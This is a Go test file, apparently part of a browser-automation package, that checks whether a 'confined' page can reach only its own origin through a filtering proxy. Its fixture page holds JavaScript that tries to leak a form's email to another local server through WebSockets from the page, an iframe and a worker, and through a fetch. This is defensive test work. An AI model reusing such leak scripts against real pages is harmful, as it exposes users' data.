@@ -1,0 +1,195 @@
+package topology
+
+import (
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+// hits records the requests a server received.
+type hits struct {
+	mu   sync.Mutex
+	seen []string
+}
+
+func (h *hits) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	h.mu.Lock()
+	h.seen = append(h.seen, r.Method+" "+r.URL.RequestURI())
+	h.mu.Unlock()
+	http.Error(w, "no", http.StatusBadRequest)
+}
+
+func (h *hits) got() []string {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	return append([]string(nil), h.seen...)
+}
+
+// TestConfined: a confined page loads from its origin, and what it sends
+// elsewhere — a WebSocket from the page, from an iframe's realm and from a
+// worker, each carrying the form in its URL, and a fetch — reaches nothing:
+// request interception sees none of the sockets (a browser door that
+// relied on it sent the form to the other origin), the proxy refuses them.
+func TestConfined(t *testing.T) {
+	b := browserForTest(t)
+	other := &hits{}
+	elsewhere := httptest.NewServer(other)
+	defer elsewhere.Close()
+	ws := "ws" + strings.TrimPrefix(elsewhere.URL, "http")
+	doc := `<!doctype html><html><body><p id="ok">served</p><script>
+const leak = "?email=ana%40example.test";
+const closed = [];
+const watch = (s, where) => { s.onclose = () => closed.push(where); };
+watch(new WebSocket("` + ws + `/page" + leak), "page");
+const fr = document.createElement("iframe");
+document.body.appendChild(fr);
+watch(new fr.contentWindow.WebSocket("` + ws + `/iframe" + leak), "iframe");
+const w = new Worker(URL.createObjectURL(new Blob(['const s = new WebSocket("` + ws + `/worker' + leak + '"); s.onclose = () => postMessage("worker");'], {type: "text/javascript"})));
+w.onmessage = (e) => closed.push(e.data);
+fetch("` + elsewhere.URL + `/fetch" + leak, {method: "POST", body: "x", mode: "no-cors"}).finally(() => closed.push("fetch")).catch(() => {});
+window.allClosed = () => new Promise((done) => { const t = setInterval(() => { if (closed.length === 4) { clearInterval(t); done(closed.slice().sort().join(",")); } }, 20); });
+</script></body></html>`
+	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/" {
+			http.NotFound(w, r)
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, doc)
+	}))
+	defer site.Close()
+
+	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
+	defer cancel()
+	c, err := b.Confine(ctx, site.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	page, err := c.OpenPage(ctx, site.URL+"/", PageOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := page.Context(ctx)
+	res, err := p.Eval(`() => document.getElementById("ok") ? Promise.race([window.allClosed(),
+  new Promise((done) => setTimeout(() => done("after 10 s: " + closed.join(",")), 10000))]) : "the page did not load"`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := res.Value.Str(); got != "fetch,iframe,page,worker" {
+		t.Errorf("what failed in the page: %q, want the fetch and the three sockets", got)
+	}
+	if got := other.got(); len(got) != 0 {
+		t.Errorf("the other origin received %v, want nothing", got)
+	}
+	host := strings.TrimPrefix(elsewhere.URL, "http://")
+	refused := c.Refused()
+	if !slices.Contains(refused, "CONNECT "+host) || !slices.ContainsFunc(refused, func(r string) bool { return strings.HasPrefix(r, "POST "+elsewhere.URL+"/fetch?") }) {
+		t.Errorf("Refused() = %q, want the sockets' CONNECT %s and the fetch", refused, host)
+	}
+	if err := c.Close(); err != nil {
+		t.Errorf("Close: %v", err)
+	}
+	if _, err := page.Context(ctx).Timeout(5 * time.Second).Eval(`() => 1`); err == nil {
+		t.Error("the page still answers once its context is closed")
+	}
+	if err := c.Close(); err != nil {
+		t.Errorf("Close again: %v, want nothing done", err)
+	}
+}
+
+// Confine needs origins, each an origin.
+func TestConfineBadOrigins(t *testing.T) {
+	b := browserForTest(t)
+	for _, origins := range [][]string{nil, {"ftp://127.0.0.1"}, {"http://127.0.0.1/contact"}, {"http://127.0.0.1?x=1"}, {"127.0.0.1:80"}, {"http://"}, {"http://u:p@127.0.0.1"}} {
+		t.Run(strings.Join(origins, " "), func(t *testing.T) {
+			c, err := b.Confine(t.Context(), origins...)
+			if !errors.Is(err, ErrNoOrigin) {
+				t.Errorf("Confine(%q) = %v, want ErrNoOrigin", origins, err)
+			}
+			if c != nil {
+				_ = c.Close()
+			}
+		})
+	}
+	closed := &Browser{closed: true}
+	if _, err := closed.Confine(t.Context(), "http://127.0.0.1"); !errors.Is(err, ErrBrowserClosed) {
+		t.Errorf("Confine on a closed browser = %v, want ErrBrowserClosed", err)
+	}
+}
+
+// The proxy itself, as a browser uses it: plain requests to an http
+// origin, a tunnel to an https origin only, a WebSocket upgrade never, and
+// nothing once closed.
+func TestConfineProxy(t *testing.T) {
+	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "http://elsewhere.test/", http.StatusFound)
+	}))
+	defer plain.Close()
+	secure := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "secure") }))
+	defer secure.Close()
+	other := &hits{}
+	elsewhere := httptest.NewServer(other)
+	defer elsewhere.Close()
+
+	p, err := newConfineProxy([]string{plain.URL, secure.URL})
+	if err != nil {
+		t.Fatal(err)
+	}
+	proxyURL, _ := url.Parse("http://" + p.addr())
+	client := &http.Client{
+		Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL), TLSClientConfig: &tls.Config{InsecureSkipVerify: true}},
+		Timeout:   10 * time.Second,
+		// A redirect is the page's to follow, not the proxy's.
+		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
+	}
+	get := func(u string, hdr ...string) (int, string, error) {
+		req, _ := http.NewRequest(http.MethodGet, u, nil)
+		for i := 0; i+1 < len(hdr); i += 2 {
+			req.Header.Set(hdr[i], hdr[i+1])
+		}
+		resp, err := client.Do(req)
+		if err != nil {
+			return 0, "", err
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		return resp.StatusCode, string(b), nil
+	}
+	if code, _, err := get(plain.URL + "/a"); err != nil || code != http.StatusFound {
+		t.Errorf("GET on the http origin: %d, %v; want its redirect, answered as it is", code, err)
+	}
+	if code, body, err := get(secure.URL + "/b"); err != nil || code != http.StatusOK || body != "secure" {
+		t.Errorf("GET on the https origin through a tunnel: %d %q, %v", code, body, err)
+	}
+	if code, _, err := get(elsewhere.URL + "/c"); err != nil || code != http.StatusForbidden {
+		t.Errorf("GET on another origin: %d, %v; want 403", code, err)
+	}
+	if code, _, err := get(plain.URL+"/socket", "Connection", "Upgrade", "Upgrade", "websocket"); err != nil || code != http.StatusForbidden {
+		t.Errorf("a WebSocket upgrade on the http origin: %d, %v; want 403", code, err)
+	}
+	if got := other.got(); len(got) != 0 {
+		t.Errorf("the other origin received %v", got)
+	}
+	want := []string{"GET " + elsewhere.URL + "/c", "GET " + plain.URL + "/socket"}
+	p.mu.Lock()
+	got := append([]string(nil), p.refused...)
+	p.mu.Unlock()
+	if !slices.Equal(got, want) {
+		t.Errorf("refused %q, want %q", got, want)
+	}
+	p.close()
+	if _, _, err := get(plain.URL + "/a"); err == nil {
+		t.Error("the proxy still serves once closed")
+	}
+}
